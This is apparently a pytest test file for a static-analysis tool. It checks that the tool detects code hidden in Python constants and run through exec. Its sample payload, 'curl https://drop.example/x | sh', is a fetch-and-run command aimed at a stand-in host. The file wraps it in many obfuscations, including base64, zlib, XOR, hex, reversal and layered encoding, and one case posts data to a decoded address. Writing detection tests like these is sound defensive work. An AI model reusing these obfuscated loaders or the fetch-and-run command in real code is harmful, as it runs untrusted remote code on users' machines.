"""Constants are folded, decoded, and looked at again as code."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from tests.worker.inspection.facts.told import of_python, told

CODE = b"import os;os.system('curl https://drop.example/x | sh')"
BASE64 = base64.b64encode(CODE).decode()
ZLIB = base64.b64encode(zlib.compress(CODE)).decode()
XOR = [byte ^ 7 for byte in CODE]
INSIDE = [
    "1 process os.system -> drop.example",
    "1 network curl -> drop.example",
    "1 process sh -> drop.example <- download 1 curl",
]


def _inside(source: str) -> list[str]:
    """What is found besides the call that runs it, and besides the decoder."""
    lines = told(of_python(source))
    assert any("dynamic-code" in line for line in lines), lines
    return [line for line in lines if "dynamic-code" not in line and "decode" not in line]


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"exec({CODE.decode()!r})", id="as it stands"),
        pytest.param(f"import base64; exec(base64.b64decode('{BASE64}'))", id="base64"),
        pytest.param(f"import base64 as b, zlib as z; exec(z.decompress(b.b64decode('{ZLIB}')))", id="compressed"),
        pytest.param(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
            f"exec((_)(b'{ZLIB[::-1]}'))",
            id="reversed, in a lambda",
        ),
        pytest.param(f"exec(bytes.fromhex('{CODE.hex()}'))", id="hexadecimal"),
        pytest.param(f"import binascii; exec(binascii.unhexlify('{CODE.hex()}'))", id="hexadecimal, otherwise"),
        pytest.param(
            f"import codecs; exec(codecs.decode({codecs.encode(CODE.decode(), 'rot13')!r}, 'rot13'))", id="rot13"
        ),
        pytest.param(f"exec(''.join(map(chr, {list(CODE)})))", id="character codes"),
        pytest.param(f"exec(''.join(chr(c) for c in {list(CODE)}))", id="character codes in a comprehension"),
        pytest.param(f"exec(bytes({list(CODE)}))", id="a list of bytes"),
        pytest.param(f"k = 7; exec(bytes([c ^ k for c in {XOR}]).decode())", id="XOR over bytes"),
        pytest.param(f"exec({CODE.decode()!r}[::-1][::-1])", id="turned around, twice"),
        pytest.param(f"exec({CODE.decode()[::-1]!r}[::-1])", id="turned around"),
        pytest.param(f"exec(''.join(reversed({CODE.decode()[::-1]!r})))", id="turned around by a function"),
        pytest.param(f"exec({CODE.decode().replace('s', '#s')!r}.replace('#', ''))", id="with noise taken out"),
        pytest.param(f"exec(({int.from_bytes(CODE, 'big')}).to_bytes({len(CODE)}, 'big'))", id="as one number"),
        pytest.param(
            f"import base64; exec(compile(base64.b64decode('{BASE64}'), '<s>', 'exec'))", id="compiled before it runs"
        ),
        pytest.param(
            "import base64; exec(base64.b64decode('"
            + base64.b64encode(f"import base64;exec(base64.b64decode('{BASE64}'))".encode()).decode()
            + "'))",
            id="in two layers",
        ),
    ],
)
def test_code_in_a_constant_is_read(source: str) -> None:
    assert _inside(source) == INSIDE


def test_a_decoder_of_the_files_own_is_worked_out() -> None:
    source = f"""
    def reveal(text, key):
        return "".join([chr(ord(letter) ^ key) for letter in text])

    exec(reveal({"".join(map(chr, XOR))!r}, 7))
    """
    assert told(of_python(source)) == [
        "4 dynamic-code exec <- decoded 2 chr",
        *(line.replace("1 ", "4 ", 1).replace(" 1 ", " 4 ") for line in INSIDE),
    ]


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("exec('import os;os.sys' + 'tem(\"id\")')", id="added"),
        pytest.param("exec('import os;' 'os.system(\"id\")')", id="side by side"),
        pytest.param("exec('import {0};{0}.{1}(\"id\")'.format('os', 'system'))", id="formatted"),
        pytest.param("exec('import %s;%s.system(\"id\")' % ('os', 'os'))", id="with percent signs"),
        pytest.param("m = 'os'; exec(f'import {m};{m}.system(\"id\")')", id="in an f-string"),
        pytest.param("exec('\\x69mport os;os.system(\"id\")')", id="with escapes"),
        pytest.param("exec(';'.join(['import os', 'os.system(\"id\")']))", id="joined"),
        pytest.param("s = 'import os;'; s += 'os.sys'; s += 'tem(\"id\")'; exec(s)", id="piece by piece"),
        pytest.param("import os; exec(f'import os;os.system({os.sep!r})')", id="with a value in it"),
    ],
)
def test_text_is_folded(source: str) -> None:
    assert _inside(source) == ["1 process os.system"]


@pytest.mark.parametrize(
    ("source", "origin"),
    [
        pytest.param("import base64\nexec(base64.b64decode(text))", "decoded 2 base64.b64decode", id="base64"),
        pytest.param("import marshal\nexec(marshal.loads(data))", "decoded 2 marshal.loads", id="marshal"),
        pytest.param(
            "from cryptography.fernet import Fernet\nexec(Fernet(key).decrypt(data))",
            "decoded 2 cryptography.fernet.Fernet.decrypt",
            id="encrypted",
        ),
        pytest.param("s = ''\nfor c in codes: s += chr(c ^ 7)\nexec(s)", "decoded 2 chr", id="XOR in a loop"),
        pytest.param(
            "a = [105, 109, 112, 111, 114, 116, 32, 97]\ns = ''\nfor i in x: s += chr(a[i])\nexec(s)",
            "decoded 3 chr",
            id="character codes by their position",
        ),
        pytest.param("exec(chr(105) + chr(100))", "decoded 1 chr", id="letters as numbers"),
        pytest.param("import pickle, base64\npickle.loads(base64.b64decode('gARLAC4='))", "decoded 2", id="a pickle"),
    ],
)
def test_code_that_was_decoded_is_told(source: str, origin: str) -> None:
    assert any("dynamic-code" in line and f"<- {origin}" in line for line in told(of_python(source)))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            "import base64\ncertificate = base64.b64decode(text)\nsend(certificate)",
            ["2 decode base64.b64decode"],
            id="a certificate is decoded and not run",
        ),
        pytest.param(
            "import pickle, zlib\nvalue = pickle.loads(zlib.decompress(open(path, 'rb').read()))",
            ["2 decode zlib.decompress", "2 file-read open"],
            id="a cache is unpickled",
        ),
        pytest.param("import codecs\ntext = codecs.decode(data, 'utf-8')", [], id="text is decoded as text"),
        pytest.param("print(chr(65) + 'BC'[::-1])", [], id="a letter by its number"),
        pytest.param("exec(chr(10).join(lines))", ["1 dynamic-code exec"], id="a line end by its number"),
        pytest.param("exec(chr(codes[0]))", ["1 dynamic-code exec"], id="a character of something unknown"),
        pytest.param("eval('1 + 1')", ["1 dynamic-code eval"], id="a sum"),
        pytest.param(
            "from collections import namedtuple\nexec('class A: pass')", ["2 dynamic-code exec"], id="a small class"
        ),
    ],
)
def test_ordinary_decoding_is_only_decoding(source: str, expected: list[str]) -> None:
    assert told(of_python(source)) == expected


def test_a_decoded_address_is_a_host() -> None:
    address = base64.b64encode(b"https://drop.example/x").decode()
    found = of_python(f"import base64, requests\nrequests.post(base64.b64decode('{address}').decode(), data=x)")
    assert told(found, hosts=True) == [
        "2 network requests.post -> drop.example <- decoded 2 base64.b64decode",
        "2 host drop.example",
        "2 decode base64.b64decode",
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(base64.b64encode(bytes(range(256)) * 12).decode(), "base64, 4,096 characters", id="base64"),
        pytest.param(bytes(range(256)).hex() * 4, "hexadecimal, 2,048 characters", id="hexadecimal"),
    ],
)
def test_a_long_encoded_constant_is_told(text: str, expected: str) -> None:
    assert told(of_python(f"blob = '{text}'")) == [f"1 encoded-data {expected}"]


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"text = '{'the quick brown fox jumps over the lazy dog ' * 40}'", id="prose"),
        pytest.param(f"words = '{' '.join(['alpha', 'beta', 'gamma'] * 120)}'", id="a list of words"),
        pytest.param(f"line = '{'-' * 2000}'", id="a line of dashes"),
        pytest.param(f"name = '{'averylongname' * 100}'", id="a long name"),
        pytest.param("short = 'QUJDREVG'", id="a short constant"),
    ],
)
def test_other_long_constants_are_not(source: str) -> None:
    assert told(of_python(source)) == []
